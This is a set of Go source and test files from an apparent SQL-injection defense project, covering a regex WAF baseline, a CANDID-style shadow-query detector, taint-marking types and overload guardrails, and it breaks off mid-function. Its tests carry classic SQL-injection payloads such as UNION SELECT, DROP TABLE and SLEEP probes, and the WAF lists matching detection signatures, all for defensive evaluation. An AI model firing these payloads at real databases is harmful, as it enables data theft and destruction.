		if reflect.DeepEqual(MySQL.Lex(q), Postgres.Lex(q)) {
			t.Errorf("mysql and postgres agree on %q; the corpus expects a dialect boundary here", q)
		}
	}
}

func TestDialectContainsSQLToken(t *testing.T) {
	// Dollar-quoted text is a string token (retention-worthy) only under
	// Postgres; MySQL sees a lone identifier.
	if MySQL.ContainsSQLToken("$$x$$") {
		t.Error("mysql: $$x$$ should contain no SQL token")
	}
	if !Postgres.ContainsSQLToken("$$x$$") {
		t.Error("postgres: $$x$$ should lex to a string token")
	}
	// And the free function stays MySQL.
	if ContainsSQLToken("$$x$$") {
		t.Error("ContainsSQLToken must keep MySQL semantics")
	}
}
