package baseline

import (
	"testing"

	"joza/internal/nti"
	"joza/internal/webapp"
)

func inputs(v string) []nti.Input {
	return []nti.Input{{Source: "get", Name: "id", Value: v}}
}

func TestRegexWAFDetectsClassicPayloads(t *testing.T) {
	waf := NewRegexWAF()
	attacks := []string{
		"-1 UNION SELECT username, password FROM users",
		"1 OR 1=1",
		"1 AND SLEEP(5)",
		"x' OR '1'='1",
		"1 AND EXTRACTVALUE(1, version())",
		"1; DROP TABLE users",
		"1 -- -",
		"-1 union/**/select 1,2",
	}
	for _, a := range attacks {
		if !waf.Detect("", inputs(a)) {
			t.Errorf("WAF missed %q", a)
		}
	}
}

func TestRegexWAFFalsePositivesOnSQLTalk(t *testing.T) {
	// The WAF's structural weakness: benign inputs that merely mention
	// SQL trip the signatures even though they land inside a quoted
	// string literal. Joza's PTI/NTI do not fire on these.
	waf := NewRegexWAF()
	benignButFlagged := []string{
		"In math class we learned that 1 or 1=1 is just true",
		"please select one from the list",
		"I sleep (a lot) on weekends",
	}
	fps := 0
	for _, v := range benignButFlagged {
		if waf.Detect("", inputs(v)) {
			fps++
		}
	}
	if fps == 0 {
		t.Error("expected the signature WAF to false-positive on SQL-ish prose")
	}
}

func TestRegexWAFMissesEncodedInput(t *testing.T) {
	// Network-level filters never see the decoded payload.
	waf := NewRegexWAF()
	encoded := webapp.Base64Encode("-1 UNION SELECT username, password FROM users")
	if waf.Detect("", inputs(encoded)) {
		t.Error("WAF should not match base64-encoded payloads")
	}
}

func TestCandidDetectsVerbatimInjection(t *testing.T) {
	c := Candid{}
	payload := "-1 OR 1=1"
	q := "SELECT * FROM t WHERE id=" + payload
	if !c.Detect(q, inputs(payload)) {
		t.Error("CANDID missed a verbatim tautology")
	}
	union := "-1 UNION SELECT a, b FROM users"
	if !c.Detect("SELECT x, y FROM t WHERE id="+union, inputs(union)) {
		t.Error("CANDID missed a verbatim union")
	}
}

func TestCandidAcceptsBenignInput(t *testing.T) {
	c := Candid{}
	q := "SELECT * FROM t WHERE id=4711"
	if c.Detect(q, inputs("4711")) {
		t.Error("CANDID flagged a benign numeric input")
	}
	qs := "SELECT * FROM t WHERE name='carol'"
	if c.Detect(qs, []nti.Input{{Source: "get", Name: "n", Value: "carol"}}) {
		t.Error("CANDID flagged a benign string input")
	}
}

func TestCandidMissesTransformedInput(t *testing.T) {
	c := Candid{}
	// Magic quotes inflated the input: CANDID cannot find it verbatim.
	raw := `-1 OR 1=1 /*'''''*/`
	transformed := webapp.MagicQuotes(raw)
	q := "SELECT * FROM t WHERE id=" + transformed
	if c.Detect(q, inputs(raw)) {
		t.Error("CANDID should miss transformation-evaded input (like NTI)")
	}
	// Base64: same blindness.
	encoded := webapp.Base64Encode("-1 OR 1=1")
	q2 := "SELECT * FROM t WHERE id=-1 OR 1=1"
	if c.Detect(q2, inputs(encoded)) {
		t.Error("CANDID should miss base64 input")
	}
}

func TestCandidSecondOrderMiss(t *testing.T) {
	c := Candid{}
	q := "SELECT * FROM t WHERE name='x' OR 1=1 -- '"
	if c.Detect(q, inputs("about")) {
		t.Error("CANDID should miss second-order attacks")
	}
}

func TestCandidShortInputsIgnored(t *testing.T) {
	c := Candid{}
	// Single-letter inputs are not attributable.
	q := "SELECT * FROM t WHERE cat='O'"
	if c.Detect(q, inputs("O")) {
		t.Error("single-char input should not be substituted")
	}
}

func TestNTIDetectorAdapter(t *testing.T) {
	d := NTIDetector{Analyzer: nti.MustNew()}
	if d.Name() != "nti" {
		t.Error("name")
	}
	payload := "-1 OR 1=1"
	if !d.Detect("SELECT * FROM t WHERE id="+payload, inputs(payload)) {
		t.Error("adapter missed attack")
	}
	if d.Detect("SELECT * FROM t WHERE id=5", inputs("5")) {
		t.Error("adapter flagged benign")
	}
}

func TestDetectorNames(t *testing.T) {
	if NewRegexWAF().Name() != "regex-waf" || (Candid{}).Name() != "candid-shadow" {
		t.Error("names")
	}
}
