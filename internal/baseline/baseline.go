// Package baseline implements two alternative SQL-injection defenses from
// the paper's related-work discussion, so the evaluation can compare Joza
// against the approaches it claims to improve on:
//
//   - RegexWAF models a network-level web application firewall / IDS: it
//     pattern-matches raw request inputs against a CRS-style signature
//     set. The paper notes such systems "operate on user-input at the
//     network level and have no visibility into the actual value" after
//     application-side decoding — so encoded attacks pass, and benign
//     inputs that merely *mention* SQL trigger false positives.
//   - Candid approximates CANDID's shadow-query technique [4]: each input
//     is replaced by a benign candidate of the same shape, and the shadow
//     query's parse structure is compared with the real one. A structural
//     difference means the input changed the query's code, not just its
//     data. Like NTI, it depends on finding the input verbatim in the
//     query, so application-side transformations defeat it.
//
// Both detectors share the Detector interface with thin adapters over
// Joza's own analyzers, enabling side-by-side evaluation
// (testbed.EvaluateBaselines).
package baseline

import (
	"regexp"
	"strings"

	"joza/internal/nti"
	"joza/internal/sqltoken"
)

// Detector is an alternative SQLi defense under evaluation.
type Detector interface {
	// Name identifies the detector in reports.
	Name() string
	// Detect reports whether the (query, inputs) pair is an attack.
	Detect(query string, inputs []nti.Input) bool
}

// RegexWAF is a signature-based input filter (ModSecurity-CRS flavoured).
type RegexWAF struct {
	patterns []*regexp.Regexp
}

var _ Detector = (*RegexWAF)(nil)

// NewRegexWAF builds the WAF with a representative SQLi signature set.
func NewRegexWAF() *RegexWAF {
	raw := []string{
		`(?i)union[\s/*]+(all[\s/*]+)?select`,
		`(?i)\bor\b\s*[\d'"]+\s*=\s*[\d'"]+`,
		`(?i)\band\b\s*[\d'"]+\s*=\s*[\d'"]+`,
		`(?i)\bsleep\s*\(`,
		`(?i)\bbenchmark\s*\(`,
		`(?i)\bextractvalue\s*\(`,
		`(?i)\bupdatexml\s*\(`,
		`(?i)\bload_file\s*\(`,
		`(?i)information_schema`,
		`(?i)['"]\s*(or|and)\s+`,
		`(?i);\s*(drop|insert|update|delete)\b`,
		`(?i)--[\s-]`,
		`#\s*$`,
		`(?i)\bselect\b.+\bfrom\b`,
	}
	waf := &RegexWAF{patterns: make([]*regexp.Regexp, 0, len(raw))}
	for _, p := range raw {
		waf.patterns = append(waf.patterns, regexp.MustCompile(p))
	}
	return waf
}

// Name implements Detector.
func (w *RegexWAF) Name() string { return "regex-waf" }

// Detect implements Detector: the WAF inspects raw inputs only (it sits in
// front of the application and never sees the final query).
func (w *RegexWAF) Detect(_ string, inputs []nti.Input) bool {
	for _, in := range inputs {
		for _, p := range w.patterns {
			if p.MatchString(in.Value) {
				return true
			}
		}
	}
	return false
}

// Candid approximates CANDID's shadow-query comparison.
type Candid struct{}

var _ Detector = Candid{}

// Name implements Detector.
func (Candid) Name() string { return "candid-shadow" }

// Detect implements Detector: build a shadow query by substituting each
// input occurrence with a benign candidate of the same shape, then compare
// the token-kind structure of real and shadow queries. A benign input only
// changes data, so the structures agree; an injected input contributes
// tokens whose kinds change or vanish under substitution.
func (Candid) Detect(query string, inputs []nti.Input) bool {
	shadow := query
	substituted := false
	for _, in := range inputs {
		if len(in.Value) < 2 {
			continue // too short to attribute, as in CANDID's modeling
		}
		if !strings.Contains(shadow, in.Value) {
			continue // transformed or unrelated input: invisible to CANDID
		}
		shadow = strings.ReplaceAll(shadow, in.Value, candidate(in.Value))
		substituted = true
	}
	if !substituted {
		return false
	}
	return !sameTokenStructure(query, shadow)
}

// candidate maps an input to its benign stand-in: digits to '1', letters
// to 'a', everything else preserved (quotes and punctuation keep the data
// shape, per CANDID's candidate-input construction).
func candidate(s string) string {
	out := []byte(s)
	for i, c := range out {
		switch {
		case c >= '0' && c <= '9':
			out[i] = '1'
		case c >= 'a' && c <= 'z':
			out[i] = 'a'
		case c >= 'A' && c <= 'Z':
			out[i] = 'a'
		}
	}
	return string(out)
}

// sameTokenStructure compares the token-kind sequences of two queries.
func sameTokenStructure(a, b string) bool {
	ta := sqltoken.Lex(a)
	tb := sqltoken.Lex(b)
	if len(ta) != len(tb) {
		return false
	}
	for i := range ta {
		if ta[i].Kind != tb[i].Kind {
			return false
		}
	}
	return true
}

// NTIDetector adapts Joza's NTI analyzer to the Detector interface.
type NTIDetector struct {
	Analyzer *nti.Analyzer
}

var _ Detector = NTIDetector{}

// Name implements Detector.
func (NTIDetector) Name() string { return "nti" }

// Detect implements Detector.
func (d NTIDetector) Detect(query string, inputs []nti.Input) bool {
	return d.Analyzer.Analyze(query, nil, inputs).Attack
}
