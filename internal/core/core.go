// Package core defines the taint model shared by Joza's negative and
// positive taint-inference analyzers: taint markings over query spans,
// per-analyzer results, attack reasons, recovery policies, and the
// figure-style rendering of markings used throughout the paper
// (− negative taint, + positive taint, c critical token).
package core

import (
	"errors"
	"fmt"
	"strings"

	"joza/internal/sqltoken"
)

// ErrOverBudget marks an analysis that exceeded a configured cost budget
// (query/input bytes, DP cells, token count). Analyzers wrap it so the
// engine can recognize over-budget checks with errors.Is and resolve them
// through the failure-mode policy instead of propagating them, keeping
// algorithmic-complexity DoS attempts from pinning a core. Distinct from a
// context deadline: the budget bounds work, not wall time.
var ErrOverBudget = errors.New("analysis budget exceeded")

// Analyzer names used in verdicts and reports.
const (
	AnalyzerNTI     = "NTI"
	AnalyzerPTI     = "PTI"
	AnalyzerProfile = "profile"
	AnalyzerHybrid  = "hybrid"
)

// Marking is one inferred taint annotation over a span of the query.
type Marking struct {
	Span sqltoken.Span
	// Source identifies the origin of the marking: for NTI the input that
	// matched (e.g. "get:id"), for PTI the trusted fragment text.
	Source string
	// Distance is the edit distance of the match for NTI markings; zero
	// for PTI markings (fragment occurrences are exact).
	Distance int
}

// Reason explains why an analyzer flagged a query: a critical token that is
// negatively tainted (NTI) or not positively tainted (PTI).
type Reason struct {
	Token  sqltoken.Token
	Detail string
}

// String renders the reason for logs and reports.
func (r Reason) String() string {
	return fmt.Sprintf("%s token %q at %d..%d: %s",
		r.Token.Kind, r.Token.Text, r.Token.Start, r.Token.End, r.Detail)
}

// Result is the outcome of one analyzer on one query.
type Result struct {
	Analyzer string
	Attack   bool
	Markings []Marking
	Reasons  []Reason
}

// Verdict is the hybrid decision over a query: the query is safe iff every
// enabled analyzer deems it safe. NTI and PTI are the paper's hybrid;
// Profile is the optional third vote (per-call-site query-skeleton
// profiles) and stays the zero Result in pipelines without that stage.
type Verdict struct {
	Query   string
	Attack  bool
	NTI     Result
	PTI     Result
	Profile Result
	// Version is the content-derived version of the analysis snapshot that
	// produced this verdict (empty for unversioned snapshots). Every check
	// runs whole against exactly one snapshot, so the version attributes
	// the verdict to one policy generation even across live reloads.
	Version string `json:"version,omitempty"`
}

// DetectedBy returns the analyzers that flagged the query.
func (v Verdict) DetectedBy() []string {
	var out []string
	if v.NTI.Attack {
		out = append(out, AnalyzerNTI)
	}
	if v.PTI.Attack {
		out = append(out, AnalyzerPTI)
	}
	if v.Profile.Attack {
		out = append(out, AnalyzerProfile)
	}
	return out
}

// Reasons returns the union of attack reasons from all analyzers.
func (v Verdict) Reasons() []Reason {
	out := make([]Reason, 0, len(v.NTI.Reasons)+len(v.PTI.Reasons)+len(v.Profile.Reasons))
	out = append(out, v.NTI.Reasons...)
	out = append(out, v.PTI.Reasons...)
	out = append(out, v.Profile.Reasons...)
	return out
}

// Policy selects how the application recovers when an attack is detected.
type Policy int

// Recovery policies. PolicyTerminate (the Joza default) aborts the request;
// PolicyErrorVirtualize makes the query appear to have failed, relying on
// application error handling.
const (
	PolicyTerminate Policy = iota + 1
	PolicyErrorVirtualize
)

// String returns the policy name.
func (p Policy) String() string {
	switch p {
	case PolicyTerminate:
		return "terminate"
	case PolicyErrorVirtualize:
		return "error-virtualization"
	default:
		return "unknown"
	}
}

// AttackError is returned to callers when a query is blocked.
type AttackError struct {
	Verdict Verdict
	Policy  Policy
}

// Error implements the error interface.
func (e *AttackError) Error() string {
	by := strings.Join(e.Verdict.DetectedBy(), "+")
	if by == "" {
		by = "joza"
	}
	return fmt.Sprintf("sql injection blocked by %s (policy %s)", by, e.Policy)
}

// RenderMarkings produces the paper's figure-style three-line annotation of
// a query: the query itself, a line of '-'/'+' markers under tainted spans,
// and a line of 'c' markers under critical tokens. Negative and positive
// markings are rendered on the same marker line; where both apply, negative
// ('-') wins since it is the alarming one.
func RenderMarkings(query string, neg, pos []Marking, critical []sqltoken.Token) string {
	markers := make([]byte, len(query))
	for i := range markers {
		markers[i] = ' '
	}
	for _, m := range pos {
		for i := m.Span.Start; i < m.Span.End && i < len(markers); i++ {
			markers[i] = '+'
		}
	}
	for _, m := range neg {
		for i := m.Span.Start; i < m.Span.End && i < len(markers); i++ {
			markers[i] = '-'
		}
	}
	crit := make([]byte, len(query))
	for i := range crit {
		crit[i] = ' '
	}
	for _, t := range critical {
		for i := t.Start; i < t.End && i < len(crit); i++ {
			crit[i] = 'c'
		}
	}
	var sb strings.Builder
	sb.WriteString(query)
	sb.WriteByte('\n')
	sb.Write(markers)
	sb.WriteByte('\n')
	sb.Write(crit)
	sb.WriteByte('\n')
	return sb.String()
}
