package core

import (
	"strings"
	"testing"

	"joza/internal/sqltoken"
)

func TestVerdictDetectedBy(t *testing.T) {
	v := Verdict{
		NTI: Result{Analyzer: AnalyzerNTI, Attack: true},
		PTI: Result{Analyzer: AnalyzerPTI, Attack: false},
	}
	got := v.DetectedBy()
	if len(got) != 1 || got[0] != AnalyzerNTI {
		t.Errorf("DetectedBy = %v", got)
	}
	v.PTI.Attack = true
	if got := v.DetectedBy(); len(got) != 2 {
		t.Errorf("DetectedBy = %v", got)
	}
	if got := (Verdict{}).DetectedBy(); len(got) != 0 {
		t.Errorf("DetectedBy = %v", got)
	}
}

func TestVerdictReasonsUnion(t *testing.T) {
	v := Verdict{
		NTI: Result{Reasons: []Reason{{Detail: "a"}}},
		PTI: Result{Reasons: []Reason{{Detail: "b"}, {Detail: "c"}}},
	}
	if got := v.Reasons(); len(got) != 3 {
		t.Errorf("Reasons = %v", got)
	}
}

func TestPolicyString(t *testing.T) {
	if PolicyTerminate.String() != "terminate" ||
		PolicyErrorVirtualize.String() != "error-virtualization" ||
		Policy(0).String() != "unknown" {
		t.Error("Policy.String mismatch")
	}
}

func TestAttackErrorMessage(t *testing.T) {
	err := &AttackError{
		Verdict: Verdict{NTI: Result{Attack: true}},
		Policy:  PolicyTerminate,
	}
	msg := err.Error()
	if !strings.Contains(msg, "NTI") || !strings.Contains(msg, "terminate") {
		t.Errorf("msg = %q", msg)
	}
	neither := &AttackError{Policy: PolicyErrorVirtualize}
	if !strings.Contains(neither.Error(), "joza") {
		t.Errorf("msg = %q", neither.Error())
	}
}

func TestReasonString(t *testing.T) {
	r := Reason{
		Token:  sqltoken.Token{Kind: sqltoken.KindKeyword, Text: "OR", Start: 10, End: 12},
		Detail: "negatively tainted",
	}
	s := r.String()
	for _, want := range []string{"keyword", "OR", "10", "12", "negatively tainted"} {
		if !strings.Contains(s, want) {
			t.Errorf("Reason.String() = %q missing %q", s, want)
		}
	}
}

func TestRenderMarkings(t *testing.T) {
	q := "SELECT id FROM t WHERE id=-1 OR 1=1"
	toks := sqltoken.Lex(q)
	crit := sqltoken.CriticalTokens(toks)
	negStart := strings.Index(q, "-1 OR")
	neg := []Marking{{Span: sqltoken.Span{Start: negStart, End: len(q)}, Source: "get:id"}}
	pos := []Marking{{Span: sqltoken.Span{Start: 0, End: negStart}, Source: "frag"}}
	out := RenderMarkings(q, neg, pos, crit)
	lines := strings.Split(out, "\n")
	if len(lines) < 3 {
		t.Fatalf("render = %q", out)
	}
	if lines[0] != q {
		t.Errorf("line 0 = %q", lines[0])
	}
	// The OR keyword position must carry '-' on the marker line and 'c' on
	// the critical line.
	orPos := strings.Index(q, "OR")
	if lines[1][orPos] != '-' {
		t.Errorf("marker at OR = %q", string(lines[1][orPos]))
	}
	if lines[2][orPos] != 'c' {
		t.Errorf("critical at OR = %q", string(lines[2][orPos]))
	}
	// SELECT is positively tainted.
	if lines[1][0] != '+' {
		t.Errorf("marker at SELECT = %q", string(lines[1][0]))
	}
	// Negative wins where both overlap: craft overlap explicitly.
	out2 := RenderMarkings("ab", []Marking{{Span: sqltoken.Span{Start: 0, End: 2}}},
		[]Marking{{Span: sqltoken.Span{Start: 0, End: 2}}}, nil)
	if strings.Split(out2, "\n")[1] != "--" {
		t.Errorf("overlap render = %q", out2)
	}
}

func TestRenderMarkingsClampsOutOfRange(t *testing.T) {
	out := RenderMarkings("ab", []Marking{{Span: sqltoken.Span{Start: 0, End: 99}}}, nil,
		[]sqltoken.Token{{Start: 1, End: 99}})
	lines := strings.Split(out, "\n")
	if lines[1] != "--" || lines[2] != " c" {
		t.Errorf("clamped render = %q", out)
	}
}
