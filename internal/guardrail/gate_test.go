package guardrail

import (
	"context"
	"errors"
	"sync"
	"testing"
	"time"
)

func TestNilGateIsDisabled(t *testing.T) {
	var g *Gate
	if err := g.Acquire(context.Background()); err != nil {
		t.Fatalf("nil gate Acquire = %v, want nil", err)
	}
	g.Release()
	if st := g.Stats(); st != (GateStats{}) {
		t.Fatalf("nil gate Stats = %+v, want zero", st)
	}
	if NewGate(0, time.Second) != nil {
		t.Fatal("NewGate(0) should return the nil (disabled) gate")
	}
}

func TestGateAdmitsUpToSize(t *testing.T) {
	g := NewGate(2, 0)
	ctx := context.Background()
	if err := g.Acquire(ctx); err != nil {
		t.Fatalf("first Acquire: %v", err)
	}
	if err := g.Acquire(ctx); err != nil {
		t.Fatalf("second Acquire: %v", err)
	}
	if err := g.Acquire(ctx); !errors.Is(err, ErrOverloaded) {
		t.Fatalf("third Acquire = %v, want ErrOverloaded", err)
	}
	g.Release()
	if err := g.Acquire(ctx); err != nil {
		t.Fatalf("Acquire after Release: %v", err)
	}
	st := g.Stats()
	if st.Inflight != 2 || st.Admitted != 3 || st.Shed != 1 {
		t.Fatalf("Stats = %+v, want inflight 2, admitted 3, shed 1", st)
	}
}

func TestGateShedsWhenDeadlineTooClose(t *testing.T) {
	g := NewGate(1, time.Minute)
	ctx := context.Background()
	if err := g.Acquire(ctx); err != nil {
		t.Fatalf("Acquire: %v", err)
	}
	// Plenty of maxWait, but the request's own budget is already spent:
	// it must be shed immediately, not queued for a minute.
	expired, cancel := context.WithDeadline(ctx, time.Now().Add(-time.Second))
	defer cancel()
	start := time.Now()
	err := g.Acquire(expired)
	if !errors.Is(err, ErrOverloaded) {
		t.Fatalf("Acquire with spent deadline = %v, want ErrOverloaded", err)
	}
	if d := time.Since(start); d > time.Second {
		t.Fatalf("shed took %v, want immediate", d)
	}
}

func TestGateWaitsForSlot(t *testing.T) {
	g := NewGate(1, 5*time.Second)
	if err := g.Acquire(context.Background()); err != nil {
		t.Fatalf("Acquire: %v", err)
	}
	done := make(chan error, 1)
	go func() { done <- g.Acquire(context.Background()) }()
	time.Sleep(10 * time.Millisecond)
	g.Release()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("waiting Acquire = %v, want nil after Release", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("waiting Acquire did not complete after Release")
	}
}

func TestGateAcquireHonorsCancel(t *testing.T) {
	g := NewGate(1, time.Minute)
	if err := g.Acquire(context.Background()); err != nil {
		t.Fatalf("Acquire: %v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- g.Acquire(ctx) }()
	time.Sleep(10 * time.Millisecond)
	cancel()
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("canceled Acquire = %v, want context.Canceled", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("canceled Acquire did not return")
	}
	// The canceled waiter must not have consumed the slot.
	g.Release()
	if err := g.Acquire(context.Background()); err != nil {
		t.Fatalf("Acquire after cancel+Release: %v", err)
	}
}

func TestGateConcurrentHammer(t *testing.T) {
	const size = 4
	g := NewGate(size, 50*time.Millisecond)
	var inflight, peak, mu = 0, 0, sync.Mutex{}
	var wg sync.WaitGroup
	for i := 0; i < 64; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 20; j++ {
				if err := g.Acquire(context.Background()); err != nil {
					continue
				}
				mu.Lock()
				inflight++
				if inflight > peak {
					peak = inflight
				}
				mu.Unlock()
				time.Sleep(time.Millisecond)
				mu.Lock()
				inflight--
				mu.Unlock()
				g.Release()
			}
		}()
	}
	wg.Wait()
	if peak > size {
		t.Fatalf("observed %d concurrent holders, gate size %d", peak, size)
	}
	if st := g.Stats(); st.Inflight != 0 {
		t.Fatalf("Inflight = %d after all released, want 0", st.Inflight)
	}
}
