// Package guardrail holds the overload-protection primitives shared by the
// daemon server and the database proxy: a bounded admission gate with
// deadline-aware load shedding, and a consecutive-failure circuit breaker
// for remote dependencies. Both are deployment-layer concerns — the
// analyzers stay pure — so they live beside, not inside, the analysis
// packages.
package guardrail

import (
	"context"
	"errors"
	"sync/atomic"
	"time"
)

// ErrOverloaded is returned by Gate.Acquire when a request is shed: every
// slot is busy and the request's deadline would expire (or maxWait would
// elapse) before one frees up. Servers translate it into a cheap,
// well-formed rejection instead of queueing work nobody will wait for.
var ErrOverloaded = errors.New("overloaded")

// Gate is a bounded concurrency gate. At most size requests hold the gate
// at once; beyond that, a request waits only as long as both its context
// deadline and the gate's maxWait allow, and is shed with ErrOverloaded
// otherwise. The zero-cost disabled form is a nil *Gate: Acquire and
// Release are nil-safe no-ops.
type Gate struct {
	slots   chan struct{}
	maxWait time.Duration

	admitted atomic.Uint64
	shed     atomic.Uint64
}

// GateStats is a point-in-time view of a gate's activity.
type GateStats struct {
	// Inflight is how many requests currently hold the gate.
	Inflight int
	// Admitted counts requests that acquired a slot.
	Admitted uint64
	// Shed counts requests rejected with ErrOverloaded.
	Shed uint64
}

// NewGate returns a gate admitting at most size concurrent requests, with
// queue waits capped at maxWait (0 means shed immediately when full).
// size <= 0 returns nil — the disabled gate.
func NewGate(size int, maxWait time.Duration) *Gate {
	if size <= 0 {
		return nil
	}
	return &Gate{slots: make(chan struct{}, size), maxWait: maxWait}
}

// Acquire claims a slot. It returns nil when admitted (pair with Release),
// ErrOverloaded when the request is shed, and ctx.Err() when the caller
// gave up while waiting. The wait is bounded by the smaller of the gate's
// maxWait and the context's remaining budget: a request that could not be
// served before its deadline anyway is shed immediately rather than
// queued — the queue only ever holds work that can still succeed.
func (g *Gate) Acquire(ctx context.Context) error {
	if g == nil {
		return nil
	}
	select {
	case g.slots <- struct{}{}:
		g.admitted.Add(1)
		return nil
	default:
	}
	wait := g.maxWait
	if dl, ok := ctx.Deadline(); ok {
		if rem := time.Until(dl); rem < wait {
			wait = rem
		}
	}
	if wait <= 0 {
		g.shed.Add(1)
		return ErrOverloaded
	}
	t := time.NewTimer(wait)
	defer t.Stop()
	select {
	case g.slots <- struct{}{}:
		g.admitted.Add(1)
		return nil
	case <-t.C:
		g.shed.Add(1)
		return ErrOverloaded
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Release returns a slot claimed by a successful Acquire.
func (g *Gate) Release() {
	if g == nil {
		return
	}
	<-g.slots
}

// Stats snapshots the gate's counters. A nil gate reports zeros.
func (g *Gate) Stats() GateStats {
	if g == nil {
		return GateStats{}
	}
	return GateStats{
		Inflight: len(g.slots),
		Admitted: g.admitted.Load(),
		Shed:     g.shed.Load(),
	}
}
