package guardrail

import (
	"errors"
	"sync"
	"sync/atomic"
	"time"
)

// ErrCircuitOpen is returned by Breaker.Allow while the breaker is open:
// the dependency has failed enough consecutive times that attempts are
// pointless, so callers short-circuit instead of paying a dial timeout.
var ErrCircuitOpen = errors.New("circuit breaker open")

// Breaker states.
const (
	stateClosed = iota
	stateOpen
	stateHalfOpen
)

// Breaker is a consecutive-failure circuit breaker for a remote
// dependency. Closed passes everything through; threshold consecutive
// failures trip it open; after cooldown a single half-open probe is
// admitted, and its outcome either closes the breaker or re-opens it.
// A nil *Breaker is the disabled form: all methods are nil-safe no-ops
// and Allow always admits.
type Breaker struct {
	threshold int
	cooldown  time.Duration
	now       func() time.Time

	mu       sync.Mutex
	state    int
	failures int
	openedAt time.Time
	// probing marks the single in-flight half-open probe; concurrent
	// callers are rejected until it reports an outcome.
	probing bool

	trips   atomic.Uint64
	rejects atomic.Uint64
	probes  atomic.Uint64
}

// BreakerStats is a point-in-time view of a breaker's activity.
type BreakerStats struct {
	// State is "closed", "open" or "half-open"; "disabled" for a nil
	// breaker.
	State string
	// Trips counts closed→open (and failed-probe re-open) transitions.
	Trips uint64
	// Rejects counts calls short-circuited by Allow.
	Rejects uint64
	// Probes counts half-open probe attempts admitted.
	Probes uint64
}

// NewBreaker returns a breaker tripping after threshold consecutive
// failures and probing again after cooldown. threshold <= 0 returns nil —
// the disabled breaker.
func NewBreaker(threshold int, cooldown time.Duration) *Breaker {
	if threshold <= 0 {
		return nil
	}
	if cooldown <= 0 {
		cooldown = time.Second
	}
	return &Breaker{threshold: threshold, cooldown: cooldown, now: time.Now}
}

// Allow reports whether a call may proceed. It returns nil when the call
// is admitted — the caller must then report the outcome with exactly one
// of Success, Failure or Cancel — and ErrCircuitOpen when the breaker is
// rejecting. While open, the first Allow after the cooldown becomes the
// half-open probe; everything else is rejected until the probe resolves.
func (b *Breaker) Allow() error {
	if b == nil {
		return nil
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	switch b.state {
	case stateClosed:
		return nil
	case stateOpen:
		if b.now().Sub(b.openedAt) < b.cooldown {
			b.rejects.Add(1)
			return ErrCircuitOpen
		}
		b.state = stateHalfOpen
		b.probing = true
		b.probes.Add(1)
		return nil
	default: // half-open
		if b.probing {
			b.rejects.Add(1)
			return ErrCircuitOpen
		}
		b.probing = true
		b.probes.Add(1)
		return nil
	}
}

// Success reports a successful call: the dependency is healthy, so the
// breaker closes and the failure streak resets.
func (b *Breaker) Success() {
	if b == nil {
		return
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	b.state = stateClosed
	b.failures = 0
	b.probing = false
}

// Failure reports a failed call. In the closed state it extends the
// consecutive-failure streak and trips the breaker at the threshold; a
// failed half-open probe re-opens immediately. Failures reported while
// already open (calls admitted before the trip) change nothing.
func (b *Breaker) Failure() {
	if b == nil {
		return
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	switch b.state {
	case stateClosed:
		b.failures++
		if b.failures >= b.threshold {
			b.state = stateOpen
			b.openedAt = b.now()
			b.trips.Add(1)
		}
	case stateHalfOpen:
		b.state = stateOpen
		b.openedAt = b.now()
		b.probing = false
		b.trips.Add(1)
	}
}

// Cancel reports a call that ended without evidence either way (the
// caller's context expired before the dependency answered). A canceled
// half-open probe returns the breaker to open — keeping the original
// trip time, so the next Allow may probe again immediately — without
// counting a trip; in other states it is a no-op.
func (b *Breaker) Cancel() {
	if b == nil {
		return
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.state == stateHalfOpen && b.probing {
		b.state = stateOpen
		b.probing = false
	}
}

// Stats snapshots the breaker's state and counters. A nil breaker reports
// State "disabled" and zeros.
func (b *Breaker) Stats() BreakerStats {
	if b == nil {
		return BreakerStats{State: "disabled"}
	}
	b.mu.Lock()
	state := b.state
	b.mu.Unlock()
	names := [...]string{stateClosed: "closed", stateOpen: "open", stateHalfOpen: "half-open"}
	return BreakerStats{
		State:   names[state],
		Trips:   b.trips.Load(),
		Rejects: b.rejects.Load(),
		Probes:  b.probes.Load(),
	}
}
