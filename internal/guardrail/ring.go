package guardrail

import (
	"sort"
	"strconv"
)

// Ring is a consistent-hash ring assigning string keys to one of n shards.
// Each shard owns many virtual points on an FNV-1a 64 circle, and a key
// belongs to the shard owning the first point at or after the key's hash.
// Consistency is the property that matters for a jozad fleet: adding or
// removing one shard moves only the keys in the arcs it owned, so the other
// shards' caches and fragment slices stay warm — a modulo assignment would
// reshuffle nearly every key instead.
//
// The same ring, built with the same shard count and replica count, yields
// the same assignment everywhere: a client routing checks and a daemon
// slicing its fragment corpus agree without coordination.
type Ring struct {
	shards int
	points []ringPoint // sorted by hash
}

type ringPoint struct {
	hash  uint64
	shard int
}

// DefaultRingReplicas is the virtual-node count per shard. 128 keeps the
// worst shard within a few percent of its fair share for small fleets
// while the ring stays tiny (n*128 points).
const DefaultRingReplicas = 128

// NewRing builds a ring over shards shards with replicas virtual points
// each (replicas <= 0 selects DefaultRingReplicas). shards <= 0 returns a
// single-shard ring, where Owner is constantly 0.
func NewRing(shards, replicas int) *Ring {
	if shards <= 0 {
		shards = 1
	}
	if replicas <= 0 {
		replicas = DefaultRingReplicas
	}
	r := &Ring{
		shards: shards,
		points: make([]ringPoint, 0, shards*replicas),
	}
	for s := 0; s < shards; s++ {
		// Virtual point v of shard s hashes the label "s#v"; the label
		// scheme is part of the ring's identity and must not change, or
		// fleets mixing versions would disagree on ownership.
		label := strconv.Itoa(s) + "#"
		for v := 0; v < replicas; v++ {
			r.points = append(r.points, ringPoint{
				hash:  fnv64a(label + strconv.Itoa(v)),
				shard: s,
			})
		}
	}
	sort.Slice(r.points, func(i, j int) bool { return r.points[i].hash < r.points[j].hash })
	return r
}

// Shards returns the number of shards the ring assigns to.
func (r *Ring) Shards() int { return r.shards }

// Owner returns the shard index in [0, Shards()) owning key.
func (r *Ring) Owner(key string) int {
	if r.shards == 1 {
		return 0
	}
	h := fnv64a(key)
	// First point at or after h, wrapping to the first point past the top
